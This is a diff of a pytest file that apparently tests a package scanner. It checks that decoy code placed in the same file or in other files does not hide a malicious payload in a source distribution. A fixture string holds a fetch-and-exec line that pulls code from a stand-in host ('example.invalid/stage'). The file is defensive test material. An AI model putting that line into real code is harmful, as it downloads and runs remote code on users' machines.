@@ -1,4 +1,4 @@
-"""Harmless lines that look worse than the payload, in numbers: what runs is shown all the same."""
+"""Many harmless lines that look worse than the payload do not hide it."""
 
 import pytest
 
@@ -24,7 +24,7 @@ def uncalled(count, kinds=LOUD):
 
 
 def never(count):
-    """The payload's own line, again and again, where it is never reached."""
+    """The payload's own line, many times, where it is never reached."""
     line = 'exec(urllib.request.urlopen("http://example.invalid/stage").read())'
     return HEAD + "".join(f"\n\ndef f{at}():\n    {line}\n" for at in range(count))
 
@@ -58,20 +58,20 @@ PLACES = {
 
 @pytest.mark.parametrize("decoys", DECOYS)
 @pytest.mark.parametrize("name", PLACES)
-def test_decoys_in_other_files(name, decoys, make, examine):
+def test_decoys_in_other_files_do_not_hide_the_payload(name, decoys, make, examine):
     files = {**DECOYS[decoys], name: make.code}
     if name == "demo/x.py":
         files["demo/__init__.py"] = b"from demo import x\n"
     seen = examine(make.sdist(files))
     shown = [place.member for place in seen.row.evidence[:8]]
-    assert f"demo-1.0/{name}" in shown, seen.say()
+    assert f"demo-1.0/{name}" in shown, seen.describe()
     seen.is_found(f"demo-1.0/{name}", PLACES[name])
 
 
 @pytest.mark.parametrize("at", ["before", "after"])
 @pytest.mark.parametrize("name", PLACES)
 @pytest.mark.parametrize("decoy", [uncalled(50), uncalled(500), never(50), running(50), uncalled(50, LOUD[:1])])
-def test_decoys_in_the_same_file(decoy, name, at, make, examine):
+def test_decoys_in_the_same_file_do_not_hide_the_payload(decoy, name, at, make, examine):
     code = make.code.decode()
     text = decoy + code if at == "before" else HEAD + code + decoy.replace(HEAD, "", 1)
     files = {name: text.encode(), **({"demo/__init__.py": b"from demo import x\n"} if name == "demo/x.py" else {})}
